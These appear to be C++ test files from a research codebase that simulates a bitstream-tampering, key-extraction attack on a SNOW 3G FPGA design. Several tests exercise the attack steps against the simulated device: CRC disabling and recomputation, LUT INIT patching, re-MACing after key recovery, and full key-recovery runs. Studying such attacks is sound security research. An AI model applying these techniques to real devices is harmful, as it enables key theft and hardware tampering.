  EXPECT_TRUE(r.crack);
  EXPECT_TRUE(r.crack_unique);
  EXPECT_FALSE(r.crack_proven_ambiguous);
  EXPECT_EQ(r.crack_candidates, 328u);
  EXPECT_EQ(r.adaptive_probes, 593u);
  EXPECT_DOUBLE_EQ(r.log2_static_bound, 142.5);

  campaign::CampaignOptions attack = opt;
  attack.kind = "attack";
  campaign::CampaignOptions equalized = opt;
  equalized.equalized = true;
  EXPECT_NE(campaign::options_signature(opt), campaign::options_signature(attack));
  EXPECT_NE(campaign::options_signature(opt), campaign::options_signature(equalized));

  // Options JSON round-trip preserves the kind and the variant knob.
  JsonWriter w;
  campaign::write_options(w, equalized);
  const auto doc = parse_json(w.str());
  ASSERT_TRUE(doc.has_value());
  const auto back = campaign::options_from_json(*doc);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(back->kind, "crack");
  EXPECT_TRUE(back->equalized);
}

// Service protocol: a submit carrying kind "crack" parses and round-trips;
// an unknown kind is a malformed job spec, which the daemon answers with a
// 400 (server.cpp maps every parse_request failure to error_response(400)).
TEST(CrackService, JobKindRoundTripsAndUnknownKindIsRejected) {
  const std::string submit =
      R"({"verb":"submit","request_id":"r1","job":{"tenant":"lab",)"
      R"("options":{"kind":"crack","equalized":true,"trials":3}}})";
  std::string error;
  const auto req = service::parse_request(submit, &error);
  ASSERT_TRUE(req.has_value()) << error;
  EXPECT_EQ(req->spec.options.kind, "crack");
  EXPECT_TRUE(req->spec.options.equalized);
  EXPECT_EQ(req->spec.options.trials, 3u);

  // Wire round-trip keeps the kind.
  const auto echoed = service::parse_request(service::request_to_json(*req), &error);
  ASSERT_TRUE(echoed.has_value()) << error;
  EXPECT_EQ(echoed->spec.options.kind, "crack");
  EXPECT_TRUE(echoed->spec.options.equalized);

  const std::string bogus =
      R"({"verb":"submit","job":{"options":{"kind":"frobnicate","trials":3}}})";
  EXPECT_FALSE(service::parse_request(bogus, &error).has_value());
  EXPECT_EQ(error, "malformed job spec");
}

}  // namespace
