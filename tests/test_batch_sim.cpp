// Lane-exactness of the bit-sliced simulators: every lane of
// BatchSimulator / BatchLutSimulator / BatchDevice must equal the scalar
// Simulator / LutSimulator / Device run with that lane's stimulus and
// configuration — on thousands of random key/IV/patch vectors, for full and
// ragged lane counts, and through the Device's incremental-configure fast
// path (including rejected bitstreams).
#include <gtest/gtest.h>

#include "bitstream/patcher.h"
#include "common/rng.h"
#include "fpga/batch_device.h"
#include "fpga/system.h"
#include "mapper/batch_lut_sim.h"
#include "mapper/lut_network.h"
#include "netlist/batch_sim.h"
#include "netlist/sim.h"

namespace sbm {
namespace {

const fpga::System& shared_system() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

/// One keystream transaction — warm-up, load, 32 init rounds, discarded
/// clock, `words` generated words — on any simulator exposing the scalar
/// input API (netlist::Simulator, mapper::LutSimulator, or a lane adapter).
template <typename Sim, typename SetWord, typename ReadWord>
std::vector<u32> drive_keystream(const netlist::Snow3gDesign& design, Sim& sim, SetWord set_word,
                                 ReadWord read_word, const snow3g::Key& key, const snow3g::Iv& iv,
                                 size_t words) {
  for (size_t i = 0; i < 4; ++i) {
    set_word(design.key[i], key[i]);
    set_word(design.iv[i], iv[i]);
  }
  auto drive = [&](bool load, bool init, bool gen) {
    sim.set_input(design.load, load);
    sim.set_input(design.init, init);
    sim.set_input(design.gen, gen);
  };
  drive(false, false, false);
  sim.step();
  drive(true, false, false);
  sim.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    sim.step();
  }
  drive(false, false, true);
  sim.step();
  std::vector<u32> z;
  for (size_t t = 0; t < words; ++t) {
    drive(false, false, true);
    sim.settle();
    z.push_back(read_word(design.z));
    sim.clock();
  }
  return z;
}

struct LaneVector {
  snow3g::Key key{};
  snow3g::Iv iv{};
  size_t lut = 0;  // mapped-LUT index whose table this lane overrides
  u64 bits = 0;    // override function bits
};

/// Runs `lanes.size()` probes through one BatchLutSimulator and checks every
/// lane against a scalar LutSimulator configured and driven identically.
void check_lut_batch(const fpga::System& sys, const std::vector<LaneVector>& lanes,
                     size_t words) {
  mapper::BatchLutSimulator batch(sys.snapshot->tape);
  batch.set_tables(sys.snapshot->golden_tables);
  for (size_t l = 0; l < lanes.size(); ++l) {
    batch.set_lut_table(lanes[l].lut, static_cast<unsigned>(l), lanes[l].bits);
  }
  for (size_t i = 0; i < 4; ++i) {
    for (size_t l = 0; l < lanes.size(); ++l) {
      batch.set_input_word_lane(sys.design.key[i], static_cast<unsigned>(l), lanes[l].key[i]);
      batch.set_input_word_lane(sys.design.iv[i], static_cast<unsigned>(l), lanes[l].iv[i]);
    }
  }
  auto drive = [&](bool load, bool init, bool gen) {
    batch.set_input(sys.design.load, load);
    batch.set_input(sys.design.init, init);
    batch.set_input(sys.design.gen, gen);
  };
  drive(false, false, false);
  batch.step();
  drive(true, false, false);
  batch.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    batch.step();
  }
  drive(false, false, true);
  batch.step();
  std::vector<std::vector<u32>> z(lanes.size());
  for (size_t t = 0; t < words; ++t) {
    drive(false, false, true);
    batch.settle();
    for (size_t l = 0; l < lanes.size(); ++l) {
      z[l].push_back(batch.read_word_lane(sys.design.z, static_cast<unsigned>(l)));
    }
    batch.clock();
  }

  for (size_t l = 0; l < lanes.size(); ++l) {
    mapper::LutNetwork luts = sys.snapshot->golden_luts;
    luts.luts[lanes[l].lut].function = logic::TruthTable6(lanes[l].bits);
    mapper::LutSimulator scalar(sys.design.net, luts);
    const std::vector<u32> expect = drive_keystream(
        sys.design, scalar,
        [&](const netlist::Word& w, u32 v) { scalar.set_input_word(w, v); },
        [&](const netlist::Word& w) { return scalar.read_word(w); }, lanes[l].key, lanes[l].iv,
        words);
    ASSERT_EQ(z[l], expect) << "lane " << l << " of " << lanes.size();
  }
}

std::vector<LaneVector> random_lanes(Rng& rng, size_t count, size_t lut_count) {
  std::vector<LaneVector> lanes(count);
  for (LaneVector& l : lanes) {
    l.key = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
    l.iv = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
    l.lut = rng.next_u64() % lut_count;
    l.bits = rng.next_u64();
  }
  return lanes;
}

TEST(BatchLutSim, MatchesScalarOnTenThousandRandomVectors) {
  const fpga::System& sys = shared_system();
  Rng rng(0xba7c4);
  constexpr size_t kBatches = 157;  // 157 * 64 = 10048 random probe vectors
  for (size_t b = 0; b < kBatches; ++b) {
    check_lut_batch(sys, random_lanes(rng, 64, sys.snapshot->golden_luts.luts.size()),
                    /*words=*/2);
  }
}

TEST(BatchLutSim, RaggedLaneCountsMatchScalar) {
  const fpga::System& sys = shared_system();
  Rng rng(0x7a66ed);
  for (const size_t count : {size_t{1}, size_t{7}, size_t{63}}) {
    check_lut_batch(sys, random_lanes(rng, count, sys.snapshot->golden_luts.luts.size()),
                    /*words=*/3);
  }
}

TEST(BatchNetlistSim, MatchesScalarSimulatorLaneForLane) {
  const fpga::System& sys = shared_system();
  Rng rng(0x5eed);
  constexpr size_t kLanes = 64;
  constexpr size_t kWords = 2;
  std::vector<snow3g::Key> keys(kLanes);
  std::vector<snow3g::Iv> ivs(kLanes);
  for (size_t l = 0; l < kLanes; ++l) {
    keys[l] = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
    ivs[l] = {rng.next_u32(), rng.next_u32(), rng.next_u32(), rng.next_u32()};
  }

  netlist::BatchSimulator batch(sys.design.net);
  for (size_t i = 0; i < 4; ++i) {
    for (size_t l = 0; l < kLanes; ++l) {
      batch.set_input_word_lane(sys.design.key[i], static_cast<unsigned>(l), keys[l][i]);
      batch.set_input_word_lane(sys.design.iv[i], static_cast<unsigned>(l), ivs[l][i]);
    }
  }
  auto drive = [&](bool load, bool init, bool gen) {
    batch.set_input(sys.design.load, load);
    batch.set_input(sys.design.init, init);
    batch.set_input(sys.design.gen, gen);
  };
  drive(false, false, false);
  batch.step();
  drive(true, false, false);
  batch.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    batch.step();
  }
  drive(false, false, true);
  batch.step();
  std::vector<std::vector<u32>> z(kLanes);
  for (size_t t = 0; t < kWords; ++t) {
    drive(false, false, true);
    batch.settle();
    for (size_t l = 0; l < kLanes; ++l) {
      z[l].push_back(batch.read_word_lane(sys.design.z, static_cast<unsigned>(l)));
    }
    batch.clock();
  }

  for (size_t l = 0; l < kLanes; ++l) {
    netlist::Simulator scalar(sys.design.net);
    const std::vector<u32> expect = drive_keystream(
        sys.design, scalar,
        [&](const netlist::Word& w, u32 v) { scalar.set_input_word(w, v); },
        [&](const netlist::Word& w) { return scalar.read_word(w); }, keys[l], ivs[l], kWords);
    ASSERT_EQ(z[l], expect) << "lane " << l;
  }
}

/// Candidate bitstreams exercising every configure path: the golden bytes,
/// the CRC-disabled template (empty diff), LUT INIT patches, a key patch,
/// a frame edit under an armed CRC (rejected), and a truncation (rejected).
std::vector<std::vector<u8>> candidate_bitstreams(const fpga::System& sys, Rng& rng,
                                                  size_t patched) {
  std::vector<std::vector<u8>> out;
  out.push_back(sys.golden.bytes);
  std::vector<u8> nocrc = sys.golden.bytes;
  bitstream::disable_crc(nocrc);
  out.push_back(nocrc);
  for (size_t i = 0; i < patched; ++i) {
    std::vector<u8> bytes = nocrc;
    const size_t touches = 1 + rng.next_u64() % 3;
    for (size_t t = 0; t < touches; ++t) {
      const size_t site = rng.next_u64() % sys.placed.phys.size();
      bitstream::write_lut_init(bytes, sys.golden.layout.site_byte_index(site),
                                bitstream::Layout::chunk_stride(),
                                bitstream::chunk_order(sys.placed.slice_of(site)),
                                rng.next_u64());
    }
    out.push_back(std::move(bytes));
  }
  std::vector<u8> keyed = nocrc;
  for (size_t b = 0; b < 16; ++b) {
    keyed[sys.golden.layout.key_byte_index() + b] = static_cast<u8>(rng.next_u64());
  }
  out.push_back(std::move(keyed));
  std::vector<u8> armed = sys.golden.bytes;  // CRC still active: must reject
  armed[sys.golden.layout.fdri_byte_offset] ^= 0xff;
  out.push_back(std::move(armed));
  out.push_back(std::vector<u8>(sys.golden.bytes.begin(), sys.golden.bytes.end() - 7));
  return out;
}

TEST(BatchDevice, MatchesScalarDevicePerLaneIncludingRejections) {
  const fpga::System& sys = shared_system();
  Rng rng(0xd31c3);
  constexpr snow3g::Iv kIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};
  const auto candidates = candidate_bitstreams(sys, rng, 12);
  ASSERT_LE(candidates.size(), fpga::BatchDevice::kLanes);

  fpga::BatchDevice batch = sys.make_batch_device();
  std::vector<bool> accepted;
  for (size_t l = 0; l < candidates.size(); ++l) {
    accepted.push_back(batch.configure_lane(static_cast<unsigned>(l), candidates[l]));
  }
  const auto z = batch.keystream(kIv, 8, static_cast<unsigned>(candidates.size()));

  for (size_t l = 0; l < candidates.size(); ++l) {
    fpga::Device device = sys.make_device();
    const bool ok = device.configure(candidates[l]);
    EXPECT_EQ(accepted[l], ok) << "lane " << l;
    if (ok) {
      ASSERT_TRUE(z[l].has_value()) << "lane " << l;
      EXPECT_EQ(*z[l], device.keystream(kIv, 8)) << "lane " << l;
    } else {
      EXPECT_FALSE(z[l].has_value()) << "lane " << l;
    }
  }
}

TEST(DeviceSnapshot, FastPathMatchesFullParseBehavior) {
  const fpga::System& sys = shared_system();
  Rng rng(0xfa57);
  constexpr snow3g::Iv kIv = {0x01234567, 0x89abcdef, 0xdeadbeef, 0x0badf00d};
  for (const auto& bytes : candidate_bitstreams(sys, rng, 8)) {
    fpga::Device fast = sys.make_device();  // snapshot-backed
    fpga::Device slow(sys.design, sys.placed, sys.golden.layout);  // full parse always
    const bool fast_ok = fast.configure(bytes);
    const bool slow_ok = slow.configure(bytes);
    ASSERT_EQ(fast_ok, slow_ok);
    if (fast_ok) {
      EXPECT_EQ(fast.loaded_key(), slow.loaded_key());
      EXPECT_EQ(fast.keystream(kIv, 4), slow.keystream(kIv, 4));
    } else {
      // Rejections must be indistinguishable, error string included.
      EXPECT_EQ(fast.error(), slow.error());
    }
  }
}

}  // namespace
}  // namespace sbm
