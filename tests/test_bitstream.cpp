// Bitstream format tests: Table I coding, packet assembly/parsing, CRC
// handling, LUT patching and the MAC-then-encrypt wrapper.
#include <gtest/gtest.h>

#include "bitstream/assembler.h"
#include "bitstream/lut_coding.h"
#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "bitstream/secure.h"
#include "common/rng.h"
#include "fpga/system.h"

namespace sbm::bitstream {
namespace {

TEST(LutCoding, XiIsAPermutation) {
  std::array<bool, 64> seen{};
  for (const u8 p : xi_table()) {
    EXPECT_LT(p, 64);
    EXPECT_FALSE(seen[p]);
    seen[p] = true;
  }
}

TEST(LutCoding, XiMatchesTable1SpotRows) {
  // Rows of the paper's Table I: F[i] -> B[xi(i)].
  const auto& xi = xi_table();
  EXPECT_EQ(xi[0], 63);   // a6..a1 = 000000
  EXPECT_EQ(xi[1], 47);   // 000001
  EXPECT_EQ(xi[8], 15);   // 001000
  EXPECT_EQ(xi[31], 24);  // 011111
  EXPECT_EQ(xi[32], 55);  // 100000
  EXPECT_EQ(xi[62], 0);   // 111110
  EXPECT_EQ(xi[63], 16);  // 111111
}

TEST(LutCoding, XiRoundTrip) {
  Rng rng(1);
  for (int trial = 0; trial < 200; ++trial) {
    const u64 f = rng.next_u64();
    EXPECT_EQ(xi_inverse(xi_permute(f)), f);
    EXPECT_EQ(xi_permute(xi_inverse(f)), f);
  }
}

TEST(LutCoding, SubVectorOrders) {
  EXPECT_EQ(chunk_order(mapper::SliceType::kSliceL), (std::array<u8, 4>{0, 1, 2, 3}));
  EXPECT_EQ(chunk_order(mapper::SliceType::kSliceM), (std::array<u8, 4>{3, 2, 0, 1}));
}

TEST(LutCoding, EncodeDecodeRoundTrip) {
  Rng rng(2);
  for (const auto& order : device_chunk_orders()) {
    for (int trial = 0; trial < 100; ++trial) {
      const u64 init = rng.next_u64();
      EXPECT_EQ(decode_lut(encode_lut(init, order), order), init);
    }
  }
}

TEST(LutCoding, OrdersProduceDifferentLayouts) {
  const u64 init = 0x0123456789abcdefull;
  const auto l = encode_lut(init, chunk_order(mapper::SliceType::kSliceL));
  const auto m = encode_lut(init, chunk_order(mapper::SliceType::kSliceM));
  EXPECT_NE(l, m);
}

TEST(Format, PaperHeaderWords) {
  EXPECT_EQ(type1_write(Reg::kFdri, 0), 0x30004000u);
  EXPECT_EQ(type1_write(Reg::kCrc, 1), 0x30000001u);
  EXPECT_EQ(type1_write(Reg::kCmd, 1), 0x30008001u);
  EXPECT_EQ(type2_write(2432080), 0x50251C50u);  // the paper's example
}

TEST(Format, ConfigCrcResetsAndAccumulates) {
  ConfigCrc a, b;
  a.feed(Reg::kFdri, 0x12345678);
  b.feed(Reg::kFdri, 0x12345678);
  EXPECT_EQ(a.value(), b.value());
  a.feed(Reg::kFdri, 1);
  EXPECT_NE(a.value(), b.value());
  a.reset();
  b.reset();
  EXPECT_EQ(a.value(), b.value());
  // Register address participates in the CRC.
  a.feed(Reg::kFdri, 7);
  b.feed(Reg::kCmd, 7);
  EXPECT_NE(a.value(), b.value());
}

class AssembledSystem : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { system_ = new fpga::System(fpga::build_system()); }
  static void TearDownTestSuite() {
    delete system_;
    system_ = nullptr;
  }
  static fpga::System* system_;
};
fpga::System* AssembledSystem::system_ = nullptr;

TEST_F(AssembledSystem, ParsesCleanly) {
  const ParseResult res = parse_bitstream(system_->golden.bytes);
  EXPECT_TRUE(res.ok) << res.error;
  EXPECT_TRUE(res.crc_checked);
  EXPECT_TRUE(res.desynced);
  ASSERT_TRUE(res.idcode.has_value());
  EXPECT_EQ(*res.idcode, kDeviceIdCode);
  EXPECT_EQ(res.fdri_byte_offset, system_->golden.layout.fdri_byte_offset);
  EXPECT_EQ(res.frame_data.size(), system_->golden.layout.frame_count * kFrameBytes);
}

TEST_F(AssembledSystem, LutInitsRoundTripThroughTheBitstream) {
  const auto& layout = system_->golden.layout;
  for (size_t site = 0; site < system_->placed.phys.size(); ++site) {
    const u64 expect = system_->placed.init_of(site);
    const auto order = chunk_order(system_->placed.slice_of(site));
    const u64 got = read_lut_init(system_->golden.bytes, layout.site_byte_index(site),
                                  Layout::chunk_stride(), order);
    ASSERT_EQ(got, expect) << "site " << site;
  }
}

TEST_F(AssembledSystem, KeyIsEmbeddedAtTheKeyFrame) {
  const auto& layout = system_->golden.layout;
  const u8* p = system_->golden.bytes.data() + layout.key_byte_index();
  for (int w = 0; w < 4; ++w) {
    EXPECT_EQ(load_be32(p + 4 * w), system_->options.key[static_cast<size_t>(w)]);
  }
}

TEST_F(AssembledSystem, CorruptionIsDetectedByCrc) {
  auto bytes = system_->golden.bytes;
  bytes[system_->golden.layout.fdri_byte_offset + 17] ^= 0x01;
  const ParseResult res = parse_bitstream(bytes);
  EXPECT_FALSE(res.ok);
  EXPECT_NE(res.error.find("CRC"), std::string::npos);
}

TEST_F(AssembledSystem, DisableCrcSkipsTheCheck) {
  auto bytes = system_->golden.bytes;
  bytes[system_->golden.layout.fdri_byte_offset + 17] ^= 0x01;
  EXPECT_EQ(disable_crc(bytes), 1u);
  const ParseResult res = parse_bitstream(bytes);
  EXPECT_TRUE(res.ok) << res.error;
  EXPECT_FALSE(res.crc_checked);
}

TEST_F(AssembledSystem, RecomputeCrcRepairsAModifiedStream) {
  auto bytes = system_->golden.bytes;
  bytes[system_->golden.layout.fdri_byte_offset + 17] ^= 0x01;
  EXPECT_TRUE(recompute_crc(bytes));
  const ParseResult res = parse_bitstream(bytes);
  EXPECT_TRUE(res.ok) << res.error;
  EXPECT_TRUE(res.crc_checked);
}

TEST_F(AssembledSystem, WriteLutInitPatchesExactlyOneSite) {
  auto bytes = system_->golden.bytes;
  const auto& layout = system_->golden.layout;
  const auto order = chunk_order(system_->placed.slice_of(0));
  const size_t l = layout.site_byte_index(0);
  write_lut_init(bytes, l, Layout::chunk_stride(), order, 0xdeadbeefcafef00dull);
  EXPECT_EQ(read_lut_init(bytes, l, Layout::chunk_stride(), order), 0xdeadbeefcafef00dull);
  // All other sites untouched.
  for (size_t site = 1; site < std::min<size_t>(system_->placed.phys.size(), 50); ++site) {
    const auto o = chunk_order(system_->placed.slice_of(site));
    EXPECT_EQ(read_lut_init(bytes, layout.site_byte_index(site), Layout::chunk_stride(), o),
              system_->placed.init_of(site));
  }
}

TEST(Layout, SlotOffsetsSkipTheReservedWord) {
  for (size_t slot = 0; slot < kSlotsPerGroup; ++slot) {
    const size_t off = Layout::slot_offset(slot);
    EXPECT_LT(off + 1, kFrameBytes);
    EXPECT_FALSE(off >= 200 && off < 204) << "slot " << slot << " hits the HCLK word";
  }
  EXPECT_THROW(Layout::slot_offset(kSlotsPerGroup), std::out_of_range);
}

TEST(Parser, RejectsGarbage) {
  const std::vector<u8> none(64, 0x00);
  EXPECT_FALSE(parse_bitstream(none).ok);
  std::vector<u8> misaligned(13, 0xff);
  EXPECT_FALSE(parse_bitstream(misaligned).ok);
}

TEST(Parser, RejectsWrongIdcode) {
  std::vector<u8> b;
  append_word(b, kDummyWord);
  append_word(b, kSyncWord);
  append_word(b, type1_write(Reg::kIdcode, 1));
  append_word(b, 0x11111111);
  EXPECT_FALSE(parse_bitstream(b).ok);
}

TEST(Parser, RejectsTruncatedPacket) {
  std::vector<u8> b;
  append_word(b, kSyncWord);
  append_word(b, type1_write(Reg::kCmd, 5));  // promises 5 words, provides 0
  EXPECT_FALSE(parse_bitstream(b).ok);
}

TEST(Secure, ProtectUnprotectRoundTrip) {
  crypto::Aes256Key ke{};
  ke[5] = 0xab;
  AuthKey ka{};
  ka[0] = 0x11;
  ka[31] = 0x99;
  crypto::AesBlock iv{};
  iv[3] = 7;
  std::vector<u8> plain(777);
  Rng rng(3);
  for (auto& b : plain) b = static_cast<u8>(rng.next_u64());

  const std::vector<u8> enc = protect_bitstream(plain, ke, ka, iv);
  const UnprotectResult res = unprotect_bitstream(enc, ke);
  ASSERT_TRUE(res.ok) << res.error;
  EXPECT_EQ(res.plain, plain);
  EXPECT_EQ(res.k_a, ka);
}

TEST(Secure, WrongKeFails) {
  crypto::Aes256Key ke{}, wrong{};
  wrong[0] = 1;
  const std::vector<u8> enc = protect_bitstream(std::vector<u8>(100, 0x42), ke, {}, {});
  EXPECT_FALSE(unprotect_bitstream(enc, wrong).ok);
}

TEST(Secure, TamperingBreaksHmac) {
  crypto::Aes256Key ke{};
  std::vector<u8> enc = protect_bitstream(std::vector<u8>(100, 0x42), ke, {}, {});
  enc[60] ^= 0x80;  // flip a ciphertext bit inside the payload
  const UnprotectResult res = unprotect_bitstream(enc, ke);
  EXPECT_FALSE(res.ok);
}

TEST(Secure, AttackerCanReMacAfterPatching) {
  // The full Fig. 1 attack flow: decrypt with the side-channel-recovered
  // K_E, read K_A, patch, re-MAC, re-encrypt; the device must accept it.
  crypto::Aes256Key ke{};
  ke[1] = 0x77;
  AuthKey ka{};
  ka[8] = 0x33;
  std::vector<u8> plain(256, 0x5a);
  const std::vector<u8> enc = protect_bitstream(plain, ke, ka, {});

  UnprotectResult stolen = unprotect_bitstream(enc, ke);
  ASSERT_TRUE(stolen.ok);
  stolen.plain[100] ^= 0xff;  // malicious modification
  const std::vector<u8> reenc = protect_bitstream(stolen.plain, ke, stolen.k_a, {});
  const UnprotectResult accepted = unprotect_bitstream(reenc, ke);
  ASSERT_TRUE(accepted.ok);
  EXPECT_EQ(accepted.plain[100], static_cast<u8>(0x5a ^ 0xff));
}

}  // namespace
}  // namespace sbm::bitstream
