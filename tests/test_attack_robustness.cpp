// Attack robustness across victim build variations: the pipeline must
// succeed regardless of placement scatter, slice-type mix, packing policy
// or mapper effort — none of which the attacker controls or knows.
#include <gtest/gtest.h>

#include "attack/pipeline.h"
#include "common/rng.h"
#include "fpga/system.h"

namespace sbm::attack {
namespace {

constexpr snow3g::Iv kIv = {0x00112233, 0x44556677, 0x8899aabb, 0xccddeeff};

AttackResult attack_system(const fpga::System& sys) {
  DeviceOracle oracle(sys, kIv);
  PipelineConfig cfg;
  cfg.iv = kIv;
  Attack attack(oracle, sys.golden.bytes, cfg);
  return attack.execute();
}

TEST(AttackRobustness, DifferentPlacementSeed) {
  fpga::SystemOptions opt;
  opt.packing.placement_seed = 0xABCDEF;
  opt.key = {0xdeadbeef, 0x01234567, 0x89abcdef, 0x0badf00d};
  const fpga::System sys = fpga::build_system(opt);
  const AttackResult res = attack_system(sys);
  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_EQ(res.secrets.key, opt.key);
}

TEST(AttackRobustness, NoDualOutputPacking) {
  fpga::SystemOptions opt;
  opt.packing.enable_dual_output = false;
  opt.key = {0x11111111, 0x22222222, 0x33333333, 0x44444444};
  const fpga::System sys = fpga::build_system(opt);
  const AttackResult res = attack_system(sys);
  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_EQ(res.secrets.key, opt.key);
}

TEST(AttackRobustness, AllSliceLColumns) {
  fpga::SystemOptions opt;
  opt.packing.slicem_period = 0;  // every slice SLICEL
  opt.key = {0xcafebabe, 0xfeedface, 0x0defaced, 0xdeadc0de};
  const fpga::System sys = fpga::build_system(opt);
  const AttackResult res = attack_system(sys);
  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_EQ(res.secrets.key, opt.key);
}

TEST(AttackRobustness, WiderPriorityCutLists) {
  fpga::SystemOptions opt;
  opt.mapper.max_cuts = 12;
  opt.key = {0x600df00d, 0x0ff1ce00, 0xbaddcafe, 0x8badf00d};
  const fpga::System sys = fpga::build_system(opt);
  const AttackResult res = attack_system(sys);
  ASSERT_TRUE(res.success) << res.failure;
  EXPECT_EQ(res.secrets.key, opt.key);
}

TEST(AttackRobustness, AllZeroAndAllOneKeys) {
  for (const u32 word : {0u, 0xffffffffu}) {
    fpga::SystemOptions opt;
    opt.key = {word, word, word, word};
    const fpga::System sys = fpga::build_system(opt);
    const AttackResult res = attack_system(sys);
    ASSERT_TRUE(res.success) << res.failure;
    EXPECT_EQ(res.secrets.key, opt.key);
  }
}

}  // namespace
}  // namespace sbm::attack
